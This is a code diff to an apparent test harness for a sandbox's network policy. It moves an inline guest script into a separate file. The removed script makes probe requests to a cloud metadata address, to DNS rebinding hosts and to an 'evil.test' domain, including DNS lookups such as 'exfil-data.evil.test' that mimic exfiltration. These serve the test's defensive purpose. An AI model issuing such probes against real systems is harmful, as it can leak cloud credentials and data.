@@ -15,6 +15,7 @@ import struct
 import subprocess
 import sys
 import threading
+from pathlib import Path
 
 PUBLIC, OWN, METADATA, DNS = "93.184.216.34", "93.184.216.36", "169.254.169.254", "127.0.0.53"
 CLONE_NEWNET = 0x40000000
@@ -85,27 +86,7 @@ def capture(seen: Witnesses) -> None:
         seen.packets.append(sock.recv(65536))
 
 
-GUEST = """
-import socket, urllib.request, urllib.error
-def fetch(url):
-    try: print(urllib.request.urlopen(url, timeout=5).read().decode())
-    except urllib.error.HTTPError as error: print(error.code)
-    except OSError as error: print(error.__class__.__name__)
-fetch("http://good.test/")
-fetch("http://rebind.test/")
-fetch("http://rebind.test/")
-fetch("http://meta.test/")
-fetch("http://own.test/")
-fetch("http://169.254.169.254/latest/")
-fetch("http://93.184.216.34/")
-fetch("http://evil.test/")
-for name in ("exfil-data.evil.test", "exfil-data.good.test", "good.test.evil.test"):
-    try: socket.getaddrinfo(name, 80); print("resolved")
-    except OSError as error: print(error.__class__.__name__)
-for place in (("169.254.169.254", 80), ("93.184.216.34", 80), ("127.0.0.53", 53), ("10.0.0.1", 80)):
-    try: socket.create_connection(place, timeout=1); print("connected")
-    except OSError as error: print(error.__class__.__name__)
-"""
+GUEST = Path(__file__).resolve().parents[1] / "programs/gateway/namespace_guest.py"
 
 
 def main() -> None:
@@ -126,7 +107,7 @@ def main() -> None:
     from ringfence import Network, Policy, Sandbox
 
     with Sandbox(policy=Policy(network=Network(allow=["good.test", "rebind.test", "meta.test", "own.test"]))) as box:
-        result = box.run(GUEST, timeout_s=25)
+        result = box.run(GUEST.read_text(), timeout_s=25)
     told = {
         "guest": result.stdout.split("\n"),
         "errors": result.stderr,
